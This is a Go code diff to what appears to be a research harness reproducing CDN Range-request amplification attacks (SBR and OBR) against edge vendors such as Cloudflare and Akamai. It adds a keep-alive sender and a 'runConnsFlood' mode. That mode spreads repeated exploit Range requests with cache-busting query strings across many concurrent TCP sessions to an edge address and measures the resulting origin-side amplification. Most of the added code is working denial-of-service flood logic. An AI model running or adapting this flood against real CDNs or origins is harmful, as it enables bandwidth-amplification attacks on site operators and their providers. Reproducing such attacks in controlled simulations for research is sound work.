@@ -21,6 +21,7 @@ import (
 	"os"
 	"strconv"
 	"strings"
+	"sync"
 	"time"
 
 	"repro/internal/core"
@@ -28,7 +29,9 @@ import (
 	"repro/internal/httpwire"
 	"repro/internal/metrics"
 	"repro/internal/netsim"
+	"repro/internal/origin"
 	"repro/internal/trace"
+	"repro/internal/transport"
 	"repro/internal/vendor"
 )
 
@@ -53,6 +56,8 @@ func run(args []string, out io.Writer) error {
 	vendorName := fs.String("vendor", "cloudflare", "sbr: edge vendor (selects the exploited Range case)")
 	sizeBytes := fs.Int64("size", 10<<20, "sbr: resource size (selects size-conditional cases)")
 	count := fs.Int("count", 1, "requests to send")
+	keepAlive := fs.Bool("keepalive", false, "h1: send all requests over one persistent connection instead of a dial per request")
+	conns := fs.Int("conns", 1, "sbr/h1: flood -count probes over this many concurrent keep-alive sessions")
 	fcdnName := fs.String("fcdn", "cloudflare", "obr: FCDN vendor (selects the range-case lead and limits)")
 	bcdnName := fs.String("bcdn", "akamai", "obr: BCDN vendor (bounds n)")
 	n := fs.Int("n", 0, "obr: number of overlapping ranges (0 = planned max)")
@@ -79,11 +84,32 @@ func run(args []string, out io.Writer) error {
 		go http.Serve(ml, mux) //nolint:errcheck // dies with the process
 	}
 
+	if *conns > 1 {
+		if *mode != "sbr" || *proto != "h1" {
+			return fmt.Errorf("-conns requires -mode sbr -proto h1")
+		}
+		if err := runConnsFlood(*edgeAddr, *path, *host, *vendorName, *sizeBytes, *count, *conns, out); err != nil {
+			return err
+		}
+		if *traceOut != "" {
+			return writeTraces(*traceOut)
+		}
+		return nil
+	}
+
 	var sendFn sendFunc
 	switch *proto {
 	case "h1":
 		sendFn = send
+		if *keepAlive {
+			ka := newKeepAliveSender(*edgeAddr)
+			defer ka.Close()
+			sendFn = ka.send
+		}
 	case "h2":
+		if *keepAlive {
+			return fmt.Errorf("-keepalive requires -proto h1 (HTTP/2 streams already share one connection)")
+		}
 		sendFn = sendH2
 	default:
 		return fmt.Errorf("unknown proto %q", *proto)
@@ -248,6 +274,108 @@ func (c *countingNetConn) Write(p []byte) (int, error) {
 	n, err := c.Conn.Write(p)
 	c.seg.AddUp(n)
 	return n, err
+}
+
+// keepAliveSender is the -keepalive send path: one origin.Client
+// session over real TCP, every request multiplexed on its persistent
+// connection. Per-request byte counts come from deltas on the
+// session's private segment (the client serializes its exchanges, so
+// the delta belongs to exactly one request).
+type keepAliveSender struct {
+	seg    *netsim.Segment
+	client *origin.Client
+}
+
+func newKeepAliveSender(addr string) *keepAliveSender {
+	seg := netsim.NewSegment("client-edge")
+	return &keepAliveSender{seg: seg, client: origin.NewClient(transport.Dialer{}, addr, seg)}
+}
+
+func (s *keepAliveSender) send(addr string, req *httpwire.Request) (up, down int64, status int, err error) {
+	before := s.seg.Traffic()
+	resp, err := s.client.Do(req)
+	d := s.seg.Since(before)
+	if err != nil {
+		return d.Up, d.Down, 0, err
+	}
+	return d.Up, d.Down, resp.StatusCode, nil
+}
+
+func (s *keepAliveSender) Close() {
+	st := s.client.Stats()
+	s.client.Close()
+	if st.Requests > 0 {
+		log.Printf("keep-alive session: %d requests over %d connection(s)", st.Requests, st.Dials)
+	}
+}
+
+// runConnsFlood is the -conns N mode: the SBR probe count split across
+// N concurrent keep-alive sessions, each session one persistent TCP
+// connection to the edge.
+func runConnsFlood(edgeAddr, path, host, vendorName string, sizeBytes int64, count, conns int, out io.Writer) error {
+	exploit := core.SBRExploit(vendorName, sizeBytes)
+	fmt.Fprintf(out, "SBR flood against %s: Range: %s (x%d per probe) over %d keep-alive sessions\n",
+		edgeAddr, exploit.RangeHeader, exploit.Repeat, conns)
+	type worker struct {
+		up, down int64
+		requests int
+		failures int
+		dials    int64
+		firstErr error
+	}
+	results := make([]worker, conns)
+	start := time.Now()
+	var wg sync.WaitGroup
+	for w := 0; w < conns; w++ {
+		share := count / conns
+		if w < count%conns {
+			share++
+		}
+		wg.Add(1)
+		go func(w, share int) {
+			defer wg.Done()
+			seg := netsim.NewSegment(fmt.Sprintf("client-edge-%d", w))
+			client := origin.NewClient(transport.Dialer{}, edgeAddr, seg)
+			defer client.Close()
+			r := &results[w]
+			for i := 0; i < share; i++ {
+				target := fmt.Sprintf("%s?cb=atk-c%d-%d", path, w, i)
+				for rep := 0; rep < exploit.Repeat; rep++ {
+					req := attackRequest(target, host, exploit.RangeHeader)
+					_, err := client.Do(req)
+					r.requests++
+					if err != nil {
+						r.failures++
+						if r.firstErr == nil {
+							r.firstErr = err
+						}
+					}
+				}
+			}
+			r.dials = client.Stats().Dials
+			tr := seg.Traffic()
+			r.up, r.down = tr.Up, tr.Down
+		}(w, share)
+	}
+	wg.Wait()
+	var total worker
+	for _, r := range results {
+		total.up += r.up
+		total.down += r.down
+		total.requests += r.requests
+		total.failures += r.failures
+		total.dials += r.dials
+		if total.firstErr == nil {
+			total.firstErr = r.firstErr
+		}
+	}
+	fmt.Fprintf(out, "flood: %d requests over %d connection(s) in %v: %d bytes out, %d bytes in\n",
+		total.requests, total.dials, time.Since(start).Round(time.Millisecond), total.up, total.down)
+	if total.failures > 0 {
+		return fmt.Errorf("flood: %d of %d requests failed, first: %w", total.failures, total.requests, total.firstErr)
+	}
+	fmt.Fprintf(out, "origin-side amplification is visible in origind/cdnsim logs\n")
+	return nil
 }
 
 // send performs one raw HTTP/1.1 request and returns bytes out/in and
